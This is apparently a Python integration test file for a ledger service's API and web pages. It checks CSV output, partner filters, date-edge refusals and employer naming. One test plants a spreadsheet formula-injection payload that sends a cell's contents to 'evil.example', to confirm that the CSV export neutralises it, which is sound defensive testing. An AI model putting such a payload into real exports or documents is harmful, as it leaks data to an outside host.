"""The API and the pages on a real ``corledger serve`` (loopback, a real ledger file) answer
as the command line does: the same CSV writer, the same filters, the same refusals of
parameters at the calendar's edges, and the same name for an employer."""

from __future__ import annotations

import csv
import io
import re
import urllib.error
import urllib.parse
import urllib.request
from datetime import UTC, datetime
from http.cookiejar import CookieJar
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import orjson
import pytest

from commands.cli import main
from tests.conftest import Cli, line
from tests.service_support import OTHER, OWN, http, jsonl, seed, served, tokens

pytestmark = pytest.mark.integration  # a real server on loopback


class Browser:
    """A signed-in visitor of the pages: a cookie jar, and the status and text of each page."""

    def __init__(self, base: str, token: str) -> None:
        self.base = base
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(CookieJar()))
        found = re.search(r'name="csrf_token" value="([^"]+)"', self.get("/signin")[1])
        assert found
        form = urllib.parse.urlencode({"csrf_token": found.group(1), "token": token})
        with self.opener.open(f"{base}/signin", data=form.encode(), timeout=60) as response:
            assert response.status == 200  # the redirect to the roll, followed

    def get(self, path: str) -> tuple[int, str]:
        try:
            with self.opener.open(f"{self.base}{path}", timeout=60) as response:
                return response.status, response.read().decode()
        except urllib.error.HTTPError as error:
            return error.code, error.read().decode()


def test_the_changes_csv_neutralises_a_formula_cell(db_url: str, tmp_path: Path) -> None:
    seed(db_url)
    made = tokens(db_url)
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
    body = jsonl([{"id": evil, "type": "EmployerRegistered", "employer": "BC-7777777",
                   "effective": "2024-01-01",
                   "data": {"name": "Formula Test Ltd", "partner": "BCCSA", "program": "COR",
                            "classification_units": ["721005"], "headcount": 10}}])
    with served(db_url, tmp_path) as (base, _):
        status, _, answer = http("POST", f"{base}/v1/events", made["partner"], body,
                                 {"Content-Type": "application/x-ndjson"})
        assert status == 200, answer
        status, headers, answer = http("GET", f"{base}/v1/changes?since=2024-01-01"
                                              "&as_of=2024-06-01", made["partner"],
                                       headers={"Accept": "text/csv"})
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    rows = {r["employer"]: r for r in csv.DictReader(io.StringIO(answer.decode()))}
    assert rows["BC-7777777"]["events"] == "'" + evil


def test_lapses_honour_the_partner_filter_as_the_command_does(cli: Cli, db_url: str,
                                                             tmp_path: Path) -> None:
    seed(db_url)
    made = tokens(db_url)
    window = "as_of=2021-05-01&within=365"
    command = cli.json("lapses", "--as-of", "2021-05-01", "--within", "365",
                       "--partner", "GO2HR")
    assert [e["employer"] for e in command] == [OTHER]
    with served(db_url, tmp_path) as (base, _):
        def lapses(token: str, query: str) -> tuple[int, bytes]:
            status, _, body = http("GET", f"{base}/v1/lapses?{window}{query}", made[token])
            return status, body

        status, body = lapses("regulator", "")
        assert status == 200
        assert {e["employer"] for e in orjson.loads(body)["lapses"]} == {OWN, OTHER}
        status, body = lapses("regulator", "&partner=GO2HR")
        assert status == 200
        assert orjson.loads(body)["partner"] == "GO2HR"
        assert orjson.loads(body)["lapses"] == command
        status, body = lapses("partner", "&partner=BCCSA")
        assert status == 200
        assert [e["employer"] for e in orjson.loads(body)["lapses"]] == [OWN]
        status, body = lapses("partner", "&partner=GO2HR")  # another partner's: as the lists
        assert status == 403
        status, body = lapses("regulator", "&partner=NOBODY")
        assert status == 422 and b"partner" in body


EDGE = "9999-12-31T23:00:00-05:00"  # a valid ISO time, but past 9999-12-31 in UTC
QUOTED_EDGE = urllib.parse.quote(EDGE)


EDGE_PARAMETERS = [  # each refused as the command line refuses it, naming the parameter
    ("/v1/lapses?as_of=0001-01-01&within=0", "as_of"),
    ("/v1/lapses?as_of=9999-12-01", "as_of"),  # the default window of 90 days reaches past
    ("/v1/roll?as_of=9999-12-31", "as_of"),
    (f"/v1/employers/{OWN}?as_of=0001-01-01", "as_of"),
    (f"/v1/employers/{OWN}?known_at={QUOTED_EDGE}", "known_at"),
    (f"/v1/employers/{OWN}/explain?known_at={QUOTED_EDGE}", "known_at"),
    (f"/v1/employers/{OWN}/incentive?year=2021&known_at={QUOTED_EDGE}", "known_at"),
    (f"/v1/employers/{OWN}/diff?from=@{QUOTED_EDGE}", "from"),
    (f"/v1/changes?since={QUOTED_EDGE}", "since"),
    (f"/v1/incentives?year=2021&known_at={QUOTED_EDGE}", "known_at"),
]


def test_parameters_at_the_calendars_edges_are_refused_naming_them(db_url: str,
                                                                    tmp_path: Path) -> None:
    seed(db_url)
    made = tokens(db_url)
    with served(db_url, tmp_path, workers=1) as (base, log):
        for path, field in EDGE_PARAMETERS:
            status, headers, body = http("GET", f"{base}{path}", made["regulator"])
            assert status == 422, (path, body)
            assert headers["Content-Type"] == "application/problem+json"
            problem = orjson.loads(body)
            assert [e["field"] for e in problem["errors"]] == [field], path
            assert "outside years 1 to 9999" in problem["errors"][0]["message"]
    assert "Traceback" not in log.read_text()


def test_the_command_line_and_the_pages_refuse_the_same_values(cli: Cli, db_url: str,
                                                               tmp_path: Path) -> None:
    seed(db_url)
    made = tokens(db_url)
    for args in (("lapses", "--as-of", "0001-01-01", "--within", "0"),
                 ("status", OWN, "--known-at", EDGE)):
        result = cli.runner.invoke(main, ["--db", db_url, *args])
        assert result.exit_code in (1, 2) and "outside years 1 to 9999" in result.output
    with served(db_url, tmp_path, workers=1) as (base, log):
        browser = Browser(base, made["regulator"])
        for path, field in (("/lapses?as_of=0001-01-01", "as_of"),
                            (f"/employers/{OWN}?known_at={QUOTED_EDGE}", "known_at"),
                            (f"/employers/{OWN}?compare_known_at={QUOTED_EDGE}",
                             "compare_known_at")):
            status, page = browser.get(path)
            assert status == 400, (path, page)
            assert f"{field}:" in page and "outside years 1 to 9999" in page
    assert "Traceback" not in log.read_text()


def _registered(employer: str, name: str, event_id: str, effective: str,
                recorded_at: str) -> dict[str, Any]:
    return line("EmployerRegistered", employer, effective, {
        "name": name, "partner": "BCCSA", "program": "COR", "classification_units": ["721005"],
        "headcount": 10}, id=event_id, recorded_at=recorded_at, by="test")


RENAMED = [  # a re-registration under a wrong name, voided; a voided registration, redone
    _registered("BC-8888888", "Right Name Ltd", "n-1", "2024-01-01", "2024-01-01T00:00:00Z"),
    _registered("BC-8888888", "Wrong Name Posted In Error", "n-2", "2024-01-01",
                "2024-02-01T00:00:00Z"),
    line("EventVoided", "BC-8888888", "2024-02-02", {"target": "n-2", "reason": "wrong name"},
         id="n-3", recorded_at="2024-02-02T00:00:00Z"),
    _registered("BC-9999999", "Voided Name Ltd", "m-1", "2024-01-01", "2024-01-01T00:00:00Z"),
    line("EventVoided", "BC-9999999", "2024-01-05", {"target": "m-1", "reason": "mistake"},
         id="m-2", recorded_at="2024-01-05T00:00:00Z"),
    _registered("BC-9999999", "Redone Name Ltd", "m-3", "2024-01-10", "2024-01-10T00:00:00Z"),
]
NAMES = {"BC-8888888": "Right Name Ltd", "BC-9999999": "Redone Name Ltd"}


def test_every_reader_names_an_employer_by_its_standing_registration(
        cli: Cli, db_url: str, tmp_path: Path) -> None:
    seed(db_url)
    made = tokens(db_url)
    assert cli.import_lines(RENAMED).exit_code == 0
    on = "2024-06-01"
    for employer, name in NAMES.items():
        assert cli.json("explain", employer, "--as-of", on)["name"] == name
        for args in ((), ("--known-at", "2024-12-31")):  # the read models, and a fold
            shown = cli("status", employer, "--as-of", on, *args).output
            assert shown.startswith(f"{employer} ({name}): "), shown
    roll = cli.json("roll", "--as-of", on)["employers"]
    assert {r["employer"]: r["name"] for r in roll if r["employer"] in NAMES} == NAMES
    known_then = cli.json("roll", "--as-of", on, "--known-at", "2024-03-01")["employers"]
    assert {r["employer"]: r["name"] for r in known_then if r["employer"] in NAMES} == NAMES
    with served(db_url, tmp_path, workers=1) as (base, _):
        status, _, body = http("GET", f"{base}/v1/verify?employer=BC-8888888"
                                      "&employer=BC-9999999")
        assert status == 200
        assert {e["employer"]: e["name"] for e in orjson.loads(body)["employers"]} == NAMES
        browser = Browser(base, made["partner"])
        status, page = browser.get("/roll?q=Wrong")
        assert status == 200 and "BC-8888888" not in page
        status, page = browser.get("/roll?q=Voided")
        assert status == 200 and "BC-9999999" not in page
        status, page = browser.get("/roll?q=Right")
        assert "BC-8888888" in page
        status, text = browser.get("/roll.csv")
        rows = {r["employer"]: r["name"] for r in csv.DictReader(io.StringIO(text))}
        assert {e: rows[e] for e in NAMES} == NAMES


def test_serve_takes_today_from_its_config_files_time_zone(db_url: str, tmp_path: Path) -> None:
    """``serve --config FILE`` answers "today" in the file's ``scan.timezone``, as every
    command does: a zone chosen so that its date is not UTC's at this hour (UTC+14 from
    11:00 UTC, UTC-12 before), at least an hour from either zone's midnight."""
    seed(db_url)
    made = tokens(db_url)
    now = datetime.now(UTC)
    zone = "Etc/GMT-14" if now.hour >= 11 else "Etc/GMT+12"
    expected = datetime.now(ZoneInfo(zone)).date()
    assert expected != now.date()
    config = tmp_path / "corledger.toml"
    config.write_text(f'[scan]\ntimezone = "{zone}"\n')
    with served(db_url, tmp_path, workers=1, args=("--config", str(config))) as (base, _):
        status, _, answer = http("GET", f"{base}/v1/employers/{OWN}", made["partner"])
    assert status == 200, answer
    assert orjson.loads(answer)["as_of"] == expected.isoformat()
